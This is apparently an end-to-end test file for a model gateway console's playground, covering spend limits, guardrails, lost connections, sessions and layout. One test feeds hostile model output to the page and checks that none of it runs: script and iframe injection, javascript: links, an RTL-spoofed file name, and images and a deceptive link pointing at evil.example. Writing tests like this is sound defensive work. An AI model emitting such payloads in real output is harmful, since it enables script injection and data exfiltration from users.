/** Playground: what is refused, what breaks off, what is hostile. */

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { mockModel } from "../support/gateway.ts";
import { makeToolFile } from "../support/folder_gateway.ts";
import { managed } from "../support/manage.ts";
import { startProxy } from "../support/tcp_proxy.ts";
import { says } from "../support/scripted.ts";
import { signedIn, signIn, signInByPage } from "./support/console_story.ts";
import { answers, chooseModel, heldStory, message, scriptedStory, send } from "./support/playground_story.ts";
import { screenshots } from "./support/screenshots.ts";

/** Boxes that are narrower than what is in them. */
const tooNarrow = `[document.documentElement, ...document.querySelectorAll(
  ".talk, .turn, .compose, .side .box, .side section, .compare > article, .turn-who, .meterline, .step summary")]
  .filter((box) => box.scrollWidth > box.clientWidth + 1)
  .map((box) => [box.className, box.scrollWidth, box.clientWidth].join(" "))`;

const hello = says("responses", "Hello.");

scriptedStory(
  {
    name: "over the playground's limit a run is refused in words, before it is sent and after",
    session: "manager",
    script: hello,
  },
  async ({ page, open, gateway, watch }) => {
    await open("/playground");
    await page.getByText("Made with the first run.").waitFor();
    await send(page, "Hi");
    await answers(page).first().getByText("Completed").waitFor();
    await page.getByText(/^\$\d.* of \$5\.00$/).waitFor();
    const { body } = await managed(gateway, { call: "GET /keys?q=console" });
    const [key] = Object(body.data);
    await managed(gateway, { call: `PATCH /keys/${key.hash}`, body: { limit: 0.000001 } });
    watch.expect(/402/);
    await send(page, "Once more");
    const answer = answers(page).nth(1);
    await answer.getByText("Refused with status 402").waitFor();
    await answer.getByText(/limit/).first().waitFor();
    await page.getByText("The next run would be refused").waitFor();
    assert.deepEqual(await page.evaluate<string[]>(tooNarrow), []);
    await screenshots(page, "playground-refused");
    await page.getByRole("link", { name: "Limit", exact: true }).click();
    await page.getByRole("heading", { name: "Console playground" }).waitFor();
  },
);

scriptedStory(
  { name: "a guardrail blocks what it is to block, and says so", session: "manager", script: hello },
  async ({ page, open, gateway, watch, upstream }) => {
    const { body } = await managed(gateway, { call: "GET /guardrails" });
    const [first] = Object(body.data);
    const rules = { content_filters: [{ pattern: "secret", action: "block" }] };
    await managed(gateway, { call: `PATCH /guardrails/${first.id}`, body: rules });
    await open("/playground");
    await page.getByRole("link", { name: first.name }).waitFor();
    watch.expect(/403/);
    await send(page, "Tell me a secret");
    await answers(page).first().getByText("Refused with status 403").waitFor();
    assert.equal(upstream.requested.length, 0);
    await answers(page).first().getByRole("link", { name: "Receipt" }).click();
    await page.getByRole("region", { name: "Guardrail stages" }).waitFor();
  },
);

const GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
const found = 'document.querySelectorAll("article';
const RTL = "\u202Egnp.exe\u202C";
const hostile = [
  "<script>globalThis.hacked = true</script> <img src=x onerror='globalThis.hacked = true'>",
  "",
  "<iframe srcdoc='<script>parent.hacked = true</script>'></iframe>",
  "",
  `[Click](javascript:globalThis.hacked=true) [Own](/console/keys) ${RTL}`,
  "",
  "![stolen](https://evil.example/?q=everything) ![also](//evil.example/a.png) ![][1]",
  "",
  "[1]: https://evil.example/b.png",
  "",
  "[https://good.example](https://evil.example/login)",
  "",
  `![drawn](data:image/gif;base64,${GIF})`,
  "",
  "![svg](data:image/svg+xml;base64,PHN2Zy8+)",
  "",
  "x".repeat(1_000_000),
  "",
  "[".repeat(20_000),
  "",
  "The end.",
].join("\n");

scriptedStory(
  {
    name: "hostile output is text only, asks for nothing elsewhere, and stays so after a reload",
    session: "manager",
    script: says("responses", hostile),
  },
  async ({ page, open }) => {
    await open("/playground");
    await send(page, "<b>Hi</b>");
    for (const isReloaded of [false, true]) {
      if (isReloaded) await page.reload();
      const answer = answers(page).first();
      await answer.getByText("Completed").waitFor();
      await answer.getByText("The end.").waitFor();
      await answer.getByText("<script>globalThis.hacked = true</script>").waitFor();
      await page.getByText("<b>Hi</b>", { exact: true }).waitFor();
      await answer.getByText("Picture elsewhere, not loaded: stolen").waitFor();
      await answer.getByText("evil.example/login").waitFor();
      assert.equal(await page.evaluate("globalThis.hacked"), undefined);
      assert.equal(await answer.locator("script, iframe, object, embed").count(), 0);
      const links = await page.evaluate<string[]>(`[...${found} a")].map((link) => link.href)`);
      assert.deepEqual(links.filter((link) => !/^https:|\/console\/requests\?receipt=/.test(link)), []);
      const sources = await page.evaluate<string[]>(`[...${found} img")].map((one) => one.src)`);
      assert.deepEqual(sources.filter((source) => !source.startsWith("data:image/gif")), []);
      assert.equal(sources.length, 1);
      const widths = await page.evaluate<number[]>(
        "[document.documentElement.scrollWidth, document.documentElement.clientWidth]",
      );
      assert((widths[0] ?? 0) <= (widths[1] ?? 0), `${widths}`);
    }
  },
);

const shown: { text: string } = { text: "" };

scriptedStory(
  {
    name: "a picture of the file store is shown, and what is no picture stays a name",
    session: "manager",
    script: (requested, number) => says("responses", shown.text)(requested, number),
  },
  async ({ page, open, gateway }) => {
    const [picture, text] = await Promise.all([
      makeToolFile(gateway, Uint8Array.fromBase64(GIF), { filename: "plot.gif" }),
      makeToolFile(gateway, new TextEncoder().encode("<svg/>"), { filename: "notes.txt" }),
    ]);
    shown.text = `![A plot](/v1/files/tg_file_${picture.id}/content) ![Notes](tg_file_${text.id})`;
    await open("/playground");
    await send(page, "Plot");
    const answer = answers(page).first();
    await answer.getByText("Completed").waitFor();
    const image = answer.getByRole("img", { name: "A plot" });
    await image.waitFor();
    assert.match(String(await image.getAttribute("src")), /^blob:/);
    await answer.getByText("Notes").waitFor();
    assert.equal(await answer.locator("img").count(), 1);
    await page.getByRole("link", { name: "Default", exact: true }).click();
    await page.getByRole("complementary", { name: "Default" }).waitFor();
  },
);

heldStory(
  { name: "a connection that is lost in the middle leaves what has come, and says what was charged" },
  async ({ page, context, gateway, watch, held }) => {
    using proxy = startProxy(gateway.port);
    const url = `http://127.0.0.1:${proxy.port}`;
    await signIn(context, { gateway: { url }, key: gateway.managementKey });
    await page.goto(`${url}/console/playground`);
    await page.getByText("Console playground, today").waitFor();
    await send(page, "Hi");
    await held.say("The first half");
    const answer = answers(page).first();
    await answer.getByText("The first half").waitFor();
    watch.expect(/ERR_/);
    proxy.cut();
    await answer.getByText("Connection lost").waitFor();
    await answer.getByText("The first half").waitFor();
    await answer.getByText(/^\$\d.* charged$/).waitFor();
    await page.getByText(/No connection to the gateway since/).waitFor({ state: "detached" });
    await page.reload();
    await answers(page).first().getByText("The first half").waitFor();
    await page.goto("about:blank");
  },
);

heldStory(
  {
    name: "a session that ends in the middle loses nothing: signed in again, the answer is whole",
    session: "manager",
  },
  async ({ page, open, context, gateway, watch, held }) => {
    await open("/playground");
    await send(page, "Hi");
    await held.say("The first half");
    await answers(page).first().getByText("The first half").waitFor();
    watch.expect(/401/);
    const cookies = await context.cookies();
    await context.clearCookies();
    await context.addCookies(cookies.map((cookie) => ({ ...cookie, value: "A".repeat(43) })));
    await page.getByRole("button", { name: /Show health$/ }).click();
    await page.getByRole("button", { name: "Sign in" }).waitFor();
    await held.say(" and the second.");
    await held.end();
    await signInByPage(page, gateway.managementKey);
    await signedIn(page);
    await answers(page).first().getByText("The first half and the second.").waitFor();
    await answers(page).first().getByText("Completed").waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Sign out" }).first().click();
    await page.getByRole("button", { name: "Sign in" }).waitFor();
    assert.equal(await page.evaluate("sessionStorage.length"), 0, "one who signs out leaves nothing");
  },
);

scriptedStory(
  { name: "a read-only key looks at the playground and runs nothing", session: "reader", script: hello },
  async ({ page, open, upstream }) => {
    await open("/playground");
    await page.getByText("This session may only look").waitFor();
    await message(page).fill("Hi");
    await page.keyboard.press("Enter");
    assert.equal(await page.getByRole("button", { name: "Send" }).isDisabled(), true);
    await open("/playground?mode=speech");
    await page.getByRole("heading", { name: "No model speaks here" }).waitFor();
    assert.equal(upstream.requested.length, 0);
  },
);

scriptedStory(
  { name: "a conversation goes by keyboard alone", session: "manager", script: hello },
  async ({ page, open }) => {
    await open("/playground");
    await message(page).focus();
    await page.keyboard.type("One");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("Two");
    // Enter sends nothing before the models are there.
    await page.locator("button:enabled", { hasText: "Send" }).waitFor();
    await page.keyboard.press("Enter");
    await answers(page).first().getByText("Completed").waitFor();
    assert.equal(await page.evaluate("document.activeElement.tagName"), "TEXTAREA");
    const reached: string[] = [];
    for (let step = 0; step < 2; step++) {
      await page.keyboard.press("Shift+Tab");
      reached.push(await page.evaluate<string>("document.activeElement.textContent"));
    }
    assert.deepEqual(reached, ["Receipt", "Edit"]);
    await page.keyboard.press("Enter");
    await page.getByText("You edit an earlier message").waitFor();
  },
);

const long = (name: string) => name.padEnd(100, "W");
/** Each is one sign without a place to break. */
const unbroken = [`a${"\u0300".repeat(2_000)}`, "\u0489".repeat(3_000), "\u{1F469}\u200D".repeat(1_500)];
/** Texts that paint beyond their own box. */
const unclipped = `[...document.querySelectorAll(".turn, .plain-text, .prose")]
  .filter((box) => getComputedStyle(box).overflowX !== "clip").map((box) => box.className)`;
const pricing = { prompt: "0.000001", completion: "0.000002" };

scriptedStory(
  {
    name: "names of 100 characters fit at four widths, in both modes",
    session: "manager",
    script: says("responses", [long("Word"), long("Word"), ...unbroken].join(" ")),
    models: [{ ...mockModel, pricing, id: long("mock/model") }, { ...mockModel, pricing, id: "mock/spare" }],
    providerName: long("Mock"),
  },
  async ({ page, open, gateway }) => {
    const { body } = await managed(gateway, { call: "GET /guardrails" });
    const change = { name: long("Guardrail") };
    await managed(gateway, { call: `PATCH /guardrails/${Object(body.data)[0].id}`, body: change });
    for (const mode of ["chat", "compare"]) {
      await open(`/playground?mode=${mode}`);
      await page.getByText("Console playground, today").waitFor();
      await chooseModel(page, { id: long("mock/model") });
      await page.locator("input[type=file]").setInputFiles({
        name: `${long("File")}.csv`,
        mimeType: "text/csv",
        buffer: Buffer.from("a"),
      });
      await page.getByRole("button", { name: /^Remove FileW/ }).waitFor();
      await send(page, [long("Message"), ...unbroken].join(" "));
      await answers(page).last().getByText("Completed").waitFor();
      for (const width of [360, 768, 1280, 1440]) {
        await page.setViewportSize({ width, height: 800 });
        assert.deepEqual(await page.evaluate<string[]>(tooNarrow), [], `${mode} at ${width} px`);
        assert.deepEqual(await page.evaluate<string[]>(unclipped), []);
      }
      await page.setViewportSize({ width: 1280, height: 800 });
    }
  },
);
